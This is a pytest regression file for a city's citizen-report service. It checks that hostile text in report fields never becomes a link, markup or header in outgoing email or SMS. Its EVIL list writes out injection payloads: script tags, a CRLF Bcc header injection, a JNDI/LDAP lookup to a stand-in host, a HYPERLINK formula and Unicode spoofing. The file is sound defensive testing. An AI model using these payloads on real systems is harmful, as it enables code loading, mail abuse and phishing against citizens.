"""T16 of the peers' failures: no citizen field becomes a link, markup or a line in any message.

Signalen #1553 and a fix of DIGIT's in 2026: what citizens wrote, the address included, was sent on
as a clickable link in the city's own name. Here a report is filed with hostile words in every
field, handled to its end, and every message of it, over every channel, is looked at.
"""

from __future__ import annotations

import email
import re
from email.policy import default
from html.parser import HTMLParser
from typing import Any

import pytest

from chalicelib.adapters.channels import MailChannel, SmsChannel, citizen_texts
from chalicelib.domain.text import sms_length
from chalicelib.services.messages import default_templates
from chalicelib.services.ports import Contact
from tests.fakes.engine import Engine

START = "2027-04-05T10:00:00+07:00"
OURS = "https://lapor.tangerang.example"
EVIL = [
    "klik https://jahat.example/masuk sekarang",
    "<a href='https://jahat.example'>menang</a><script>alert(1)</script><img src=//jahat.example>",
    "[hadiah](https://jahat.example) ![x](http://jahat.example/x.png) <https://jahat.example>",
    "Jl. Raya 1\r\nBcc: korban@jahat.example\r\n\r\nhttps://jahat.example",
    "www．jahat。example／x hxxps://jahat.example data:text/html;base64,AAAA tel:+6281",
    '{{ link }} {% for a in b %} ${jndi:ldap://jahat.example/a} =HYPERLINK("http://jahat.example")',
    "\u202ehttps://jahat.example\u2066 jahat\u200b.example jahat.example mailto:a@jahat.example",
]


class Mails:
    """A provider that keeps what it was given."""

    def __init__(self) -> None:
        self.taken: list[bytes] = []

    def send(self, to: str, mime: bytes, tags: Any = None) -> str:
        self.taken.append(mime)
        return f"m-{len(self.taken)}"


class Texts:
    def __init__(self) -> None:
        self.taken: list[str] = []

    def send(self, to: str, text: str, now: Any = None) -> str:
        self.taken.append(text)
        return f"t-{len(self.taken)}"


class Links(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.tags: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.found += [v or "" for k, v in attrs if k in ("href", "src", "background", "action")]


@pytest.fixture(autouse=True)
def address(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PUBLIC_URL", OURS)
    monkeypatch.setenv("MAIL_FROM", "lapor@tangerang.example")


def whole_case(evil: str) -> tuple[Mails, Texts, Engine]:
    """Report, question, answer, deferral, result, dispute, and silence, with *evil* everywhere."""
    engine = Engine(START)
    mails, texts = Mails(), Texts()
    engine.sender.channels["mail"] = MailChannel(mails, citizen_texts(engine.store))
    engine.sender.channels["sms"] = SmsChannel(texts)  # type: ignore[arg-type]
    contact = Contact(name=evil, email="warga@example.org", phone="+6281200000001")
    number = engine.filed(description=evil, address=evil, contact=contact).report.number
    engine.run_until("2027-04-05T10:05:00+07:00")
    engine.act(number, "verify", "operator", note=evil)
    engine.pump()
    engine.act(number, "decline", "petugas.pupr", reason=evil, agency="DLH")
    engine.pump()
    engine.act(number, "verify", "operator", agency="PUPR")
    engine.pump()
    engine.act(number, "instruct", "walikota", text=evil)
    engine.act(number, "acknowledge", "petugas.pupr", note=evil)
    engine.act(number, "ask", "petugas.pupr", question=evil)
    engine.pump()
    engine.run_until("2027-05-20T10:00:00+07:00")
    other = engine.filed(description=evil, address=evil, contact=contact).report.number
    engine.act(other, "reject", "operator", reason="incomplete")
    engine.pump()
    return mails, texts, engine


@pytest.mark.parametrize(
    "evil",
    [*EVIL[2:4], *(pytest.param(one, marks=pytest.mark.long) for one in EVIL[:2] + EVIL[4:])],
)
def test_no_word_of_a_citizen_is_a_link_markup_or_header_in_any_message(evil: str) -> None:
    mails, texts, engine = whole_case(evil)
    assert len(mails.taken) > 10 and texts.taken
    assert {one.status for one in engine.store.messages.values()} <= {
        "sent", "suppressed", "unknown", "bundled", "planned",
    }  # fmt: skip
    for raw in mails.taken:
        message = email.message_from_bytes(raw, policy=default)
        assert message["Bcc"] is None and message["To"].count("@") == 1
        plain = message.get_body(("plain",)).get_content()
        html = message.get_body(("html",)).get_content()
        seen = Links(html)
        addresses = re.findall(r"(?:https?|ftp|mailto|data|tel):\S+", plain) + seen.found
        assert [one for one in addresses if not one.startswith(OURS)] == []
        assert "jahat.example" not in raw.decode() + plain + html + message["Subject"]
        assert seen.tags.isdisjoint({"script", "img", "iframe", "form", "svg"})
    for text in texts.taken:
        assert sms_length(text) <= 160
        assert [a for a in re.findall(r"https?://\S+", text) if not a.startswith(OURS)] == []
        assert "jahat" not in text


def names(source: str) -> set[str]:
    """The names that a template's text fills in."""
    return {word for part in re.findall(r"{[{%].*?[}%]}", source) for word in part.split()}


def test_no_template_gives_citizens_words_to_text_messages_or_subjects() -> None:
    for id in default_templates().ids():
        template = default_templates().get(id)
        for content in template.channels["mail"].values():
            assert not names(content["subject"]) & {"description", "address"}
        for text in template.channels["sms"].values():
            assert not names(text) & {"description", "address", "question", "result"}
